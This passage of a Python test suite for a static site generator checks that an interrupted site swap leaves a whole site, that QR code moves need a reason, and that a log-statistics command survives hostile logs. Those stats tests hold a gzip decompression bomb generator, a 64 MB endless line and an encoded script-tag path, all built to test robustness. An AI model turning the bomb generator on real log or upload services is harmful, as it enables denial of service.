    if {Path(source).name, Path(target).name} <= {"site", swap.OLD}:  # the switch's renames only
        renames.append(source)
        if step == f"rename{len(renames)}":
            os._exit(9)
    return real_rename(source, target)

def rmtree(path, *args, **kwargs):
    if step == "rmtree" and Path(path).name in ("site", swap.OLD):
        victim = sorted(Path(path).rglob("*.html"))[0]
        victim.unlink()  # half-way through removing the old site
        os._exit(9)
    return real_rmtree(path, *args, **kwargs)

swap.exchange, swap.os.rename, swap.shutil.rmtree = exchange, rename, rmtree
root = Path(sys.argv[2])
build(Project(root), root / "site", BuildOptions(dt.date(2026, 11, 25)))
"""
# Where the kill falls: before or after the step that publishes the new site.
KILL_STEPS = {"exchange": "old", "exchange-after": "new", "rmtree": "new",
              "no-exchange-rename1": "old", "no-exchange-rename2": "old", "no-exchange-rmtree": "new"}


@pytest.fixture(scope="module")
def swap_base(tmp_path_factory) -> BaseSite:
    root = tmp_path_factory.mktemp("swap") / "project"
    write_project(root, BASE_PAGES)
    run = build(root)
    assert run.returncode == 0, run.tail()
    return BaseSite(root, snapshot(root / "site"))


@pytest.mark.parametrize("step", list(KILL_STEPS))
def test_a_build_killed_in_the_switch_then_a_failing_build_keep_a_whole_site(step, swap_base, tmp_path):
    root = swap_base.copy(tmp_path)
    add(root, "vi/tu-nguyen/moi.md", page("Trang mới", "Nội dung mới.", order=2))
    killed = subprocess.run([sys.executable, "-c", KILL, step, str(root)], cwd=REPO, capture_output=True, text=True,
                            env={**os.environ, "PYTHONPATH": str(REPO)}, timeout=600)
    assert killed.returncode == 9, killed.stderr[-3000:]
    add(root, "vi/tu-nguyen/hong.md", "---\ntitle: [\n---\n")  # a content mistake: the next build fails
    run = build(root)
    assert_refused(run, "content/vi/tu-nguyen/hong.md")
    after = snapshot(root / "site")
    if KILL_STEPS[step] == "new":
        # The switch happened before the kill: the new site, whole, is the published one.
        assert "tu-nguyen/moi/index.html" in after and set(swap_base.site) < set(after)
    else:
        assert after == swap_base.site
    assert staging_left(root) == []


# --- moves of printed codes are visible --------------------------------------------------------------

MOVES = {
    "m1-another-audience": "moves:\n  tn: vi/sinh-vien/index.md\n",
    "m2-another-language": "moves:\n  tn: bahnar/tu-nguyen/index.md\n",
    "m3-two-printed-codes-swapped": "moves:\n  tn: vi/sinh-vien/index.md\n  sv: vi/tu-nguyen/index.md\n",
}


@pytest.mark.parametrize("name", list(MOVES))
def test_a_move_to_another_audience_or_language_needs_a_reason(name, swap_base, tmp_path):
    root = swap_base.copy(tmp_path)
    edit_lock(root, lambda text: text + MOVES[name])
    lock = (root / "content" / "qr-lock.yml").read_text(encoding="utf-8")
    problems = composed(Project(root), release=False)
    for code in re.findall(r"(?m)^  (\w+): ", MOVES[name]):
        line = next(n for n, l in enumerate(lock.split("\n"), 1) if l.startswith(f"  {code}: ") and n > line_with(lock, "\nmoves:") + 1)
        assert_refused_at(problems, "content/qr-lock.yml", line, "reason")
    # With its reason the same move is accepted.
    reasoned = lock[: lock.index("\nmoves:") + 1] + "moves:\n" + "".join(
        f"  {code}:\n    to: {target}\n    reason: Gộp hai trang hướng dẫn\n" for code, target in re.findall(r"(?m)^  (\w+): (\S+)$", MOVES[name]))
    (root / "content" / "qr-lock.yml").write_text(reasoned, encoding="utf-8")
    assert [p for p in composed(Project(root), release=False) if p[0] == "content/qr-lock.yml"] == []


def test_moves_are_in_the_summary_the_manifest_and_the_next_release(swap_base, tmp_path):
    root = swap_base.copy(tmp_path)
    edit_lock(root, lambda text: text + "moves:\n  tn: vi/tu-nguyen/muc-dong.md\n")
    run = build(root)
    assert run.returncode == 0, run.tail()
    assert re.search(r"Mã QR `tn`: `vi/tu-nguyen/index.md` → `vi/tu-nguyen/muc-dong.md` \(từ 2026-11-25\)", run.output), run.tail()
    manifest = json.loads((root / "site" / "manifest.json").read_text(encoding="utf-8"))
    assert manifest["moves"] == [{"code": "tn", "from": "vi/tu-nguyen/index.md", "to": "vi/tu-nguyen/muc-dong.md",
                                  "since": AS_OF, "reason": None, "released": False}]
    release = build(root, "--release", "--site-url", REAL_ADDRESS, "--new-site-url")
    assert release.returncode == 0, release.tail()
    assert "Mã QR chuyển trang kể từ lần phát hành trước: 1:" in release.output and "`tn`: `vi/tu-nguyen/index.md`" in release.output
    again = build(root, "--release", "--site-url", REAL_ADDRESS, "--as-of", "2026-11-26")
    assert again.returncode == 0, again.tail()
    assert "Mã QR chuyển trang kể từ lần phát hành trước: không có." in again.output


# --- statistics under hostile logs --------------------------------------------------------------------

STATS_MEMORY = 768 * 2**20  # address space of `outreach stats`: a log larger than this cannot be held whole
PHONE = "Mozilla/5.0 (Linux; Android 13; SM-A145F) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Mobile Safari/537.36"


def log_line(path: str, address: str = "203.0.113.7", when: str = "01/Nov/2026:08:00:00 +0700") -> str:
    return f'{address} - - [{when}] "GET {path} HTTP/1.1" 200 512 "-" "{PHONE}"'


def gzip_bomb(path: Path, size: int, chunk: bytes = b"A") -> Path:
    """`size` bytes of `chunk` once decompressed, no newline, a few hundred KB on disk (one gzip member repeated)."""
    import gzip
    block = 16 * 2**20
    member = gzip.compress(chunk * (block // len(chunk)), compresslevel=9, mtime=0)
    with path.open("wb") as out:
        for _ in range(-(-size // block)):
            out.write(member)
    return path


def stats_run(*args) -> Run:
    started = time.monotonic()
    process = subprocess.Popen([sys.executable, "-m", "generator", "stats", *map(str, args), "--site-url", "https://gialai.example/",
                                "--format", "json"], stdout=subprocess.PIPE, stderr=subprocess.PIPE, cwd=REPO, start_new_session=True,
                               env={**os.environ, "CI": "1"})
    resource.prlimit(process.pid, resource.RLIMIT_AS, (STATS_MEMORY, STATS_MEMORY))
    out, err = process.communicate(timeout=600)
    return Run(process.returncode, out.decode() + "\n--stderr--\n" + err.decode(), time.monotonic() - started)


@pytest.fixture(scope="module")
def good_log(tmp_path_factory) -> Path:
    log = tmp_path_factory.mktemp("logs") / "access.log"
    log.write_text("\n".join([log_line("/q/tn/"), log_line("/q/tn-/"), log_line("/q/tn-%3Cscript%3E/"),
                              log_line("/q/khong-co/"), log_line("/q/tnb/", address="198.51.100.23")]) + "\n", encoding="utf-8")
    return log


def counts_of(run: Run) -> dict:
    return json.loads(run.output.split("\n--stderr--\n")[0])


def test_codes_the_site_never_had_are_counted_apart(good_log):
    run = stats_run(good_log)
    assert run.returncode == 0, run.tail()
    counts = counts_of(run)
    assert counts["codes"] == {"tn": 1, "tnb": 1} and counts["not_counted"]["unknown_codes"] == 3


@pytest.mark.slow
def test_a_decompression_bomb_is_one_line_and_the_other_logs_are_counted(good_log, tmp_path):
    bomb = gzip_bomb(tmp_path / "access.log.3.gz", 2**30 + 2**24)  # 1 GiB and a bit, not a single newline
    assert bomb.stat().st_size < 5 * 2**20
    run = stats_run(good_log, bomb)
    assert "Traceback" not in run.output and "MemoryError" not in run.output, run.tail()
    assert run.returncode == 1, run.tail()
    assert counts_of(run)["codes"] == {"tn": 1, "tnb": 1}  # the good log, counted as if alone
    stderr = run.output.split("\n--stderr--\n")[1]
    [line] = [l for l in stderr.splitlines() if str(bomb) in l]
    assert "quá lớn khi giải nén" in line and "Các tệp khác vẫn được đếm" in line


def test_an_endless_line_is_one_malformed_line(good_log, tmp_path):
    log = tmp_path / "access.log.1"
    with log.open("wb") as out:
        out.write((log_line("/q/tn/", address="192.0.2.44") + "\n").encode())
        out.write(b"x" * (64 * 2**20) + b"\n")  # 64 MB on one line
        out.write((log_line("/q/tnb/", address="192.0.2.45") + "\n").encode())
    run = stats_run(log)
    assert run.returncode == 0, run.tail()
    counts = counts_of(run)
    assert counts["codes"] == {"tn": 1, "tnb": 1} and counts["not_counted"]["malformed_lines"] == 1
